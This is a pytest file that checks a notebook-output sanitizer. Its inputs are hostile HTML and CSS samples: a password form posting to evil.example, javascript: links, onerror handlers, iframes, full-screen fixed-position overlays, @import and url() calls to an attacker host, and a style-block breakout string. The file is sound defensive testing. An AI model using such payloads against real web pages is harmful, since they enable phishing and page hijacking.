"""What a notebook supplies, made safe for the app's page: HTML outputs, Markdown text."""

from __future__ import annotations

import re

import pytest

from neuralis.sanitize import code_span, contain_html, label_text, markdown_text


def test_forms_inputs_and_links_to_code_are_removed() -> None:
    out = contain_html(
        '<form action="http://evil.example/steal"><input type="password" name="pw">'
        '<button>Sign in</button></form><a href="javascript:alert(1)">x</a>'
        '<a href="data:text/html,hi">y</a><link rel="stylesheet" href="http://evil.example/c">'
        '<iframe src="http://evil.example"></iframe><img src="x" onerror="alert(1)">'
    )
    for banned in ("<form", "<input", "<button", "javascript:", "data:text", "<link", "<iframe"):
        assert banned not in out
    assert "onerror" not in out and "Sign in" in out


def test_position_and_offsets_are_dropped_from_style_attributes() -> None:
    out = contain_html(
        '<div style="position: fixed; inset: 0; z-index: 9999; transform: scale(9); '
        'background-image: url(http://evil.example/b.png); color: red; text-align: right">x</div>'
    )
    style = re.search(r'<div style="([^"]*)">x', out)
    assert style is not None
    assert style.group(1).replace(" ", "") == "color:red;text-align:right"


def test_the_box_contains_its_paint_and_fixed_children() -> None:
    out = contain_html("<p>hi</p>")
    assert out.startswith('<div class="neuralis-html neuralis-html-')
    assert "contain: paint" in out.split(">", 1)[0]
    assert out.endswith("<p>hi</p></div>")


def test_style_blocks_are_scoped_to_the_output() -> None:
    out = contain_html(
        "<style>body, .stApp { display: none !important } "
        "@import url(http://evil.example/x.css); @font-face { font-family: x } "
        "#T_1 td { color: blue; position: fixed; background: url(http://evil.example/b) } "
        "td { background: linear-gradient(90deg, red 10%, transparent 10%) }</style>"
        '<table id="T_1"><tr><td>1</td></tr></table>'
    )
    scope = re.search(r"neuralis-html-[0-9a-f]{10}", out)
    assert scope is not None
    css = out[out.index("<style>") + 7 : out.index("</style>")]
    rules = [r.strip() for r in css.splitlines()]
    s = scope.group(0)
    assert rules == [
        f".{s} body, .{s} .stApp {{ display: none !important; }}",
        f".{s} #{s}-T_1 td {{ color: blue; }}",
        f".{s} td {{ background: linear-gradient(90deg, red 10%, transparent 10%); }}",
    ]
    assert f'<table id="{s}-T_1">' in out
    assert "@import" not in out and "evil" not in out and "font-face" not in out


def test_rules_cannot_reach_the_boxes_siblings() -> None:
    out = contain_html(
        "<style>~ div, p { color: red } + * { display: none } > p { color: blue }</style><p>x</p>"
    )
    css = out[out.index("<style>") + 7 : out.index("</style>")]
    assert "red" not in css and "display" not in css and "> p { color: blue; }" in css


def test_a_string_cannot_end_the_style_block() -> None:
    out = contain_html('<style>a { color: "</style><form action=x><input>" }</style><p>t</p>')
    assert "<form" not in out and "<input" not in out
    assert out.count("<style>") == out.count("</style>") <= 1


def test_pandas_outputs_keep_their_table_and_styles() -> None:
    pd = pytest.importorskip("pandas")
    frame = pd.DataFrame({"a": [1, 2]})
    plain = contain_html(frame._repr_html_())
    assert '<table border="1" class="dataframe">' in plain and plain.count("<tr") == 3
    styled = contain_html(frame.style.highlight_max(color="yellow")._repr_html_())
    assert "background-color: yellow;" in styled
    cell = re.search(r'<td id="([^"]+)"[^>]*>2</td>', styled)
    assert cell is not None and f"#{cell.group(1)} {{ background-color: yellow;" in styled


@pytest.mark.parametrize(
    "text",
    [
        "[click](http://evil.example)",
        "![x](http://evil.example/i.png)",
        "http://evil.example/a www.evil.example me@evil.example",
        ":red[alarm] :material/home: **bold** <b>b</b> `code` $x^2$ # title",
        "line one\n\n# heading\n- item",
    ],
)
def test_markdown_text_escapes_every_construct(text: str) -> None:
    out = markdown_text(text)
    assert "\n" not in out
    unescaped = re.sub(r"\\.", "", out)  # what is left once every escaped mark is removed
    assert not re.search(r"[\[\]()<>*`$#:!]", unescaped)
    assert "http:/" not in out and "www\\." not in out and "\\@" not in out


def test_code_spans_cannot_be_closed_from_inside() -> None:
    assert code_span("local") == "`local`"
    assert code_span("gate`way") == "``gate`way``"
    assert code_span("`x`") == "`` `x` ``"
    assert code_span("a\n\nb") == "`a b`"


def test_plain_file_names_stay_as_they_are_in_labels() -> None:
    assert label_text("my_report v2.ipynb") == "my_report v2.ipynb"
    assert label_text("café.ipynb") == "café.ipynb"
    assert label_text("[x](y).ipynb") == markdown_text("[x](y).ipynb")
    assert label_text("www.evil.example.ipynb") != "www.evil.example.ipynb"
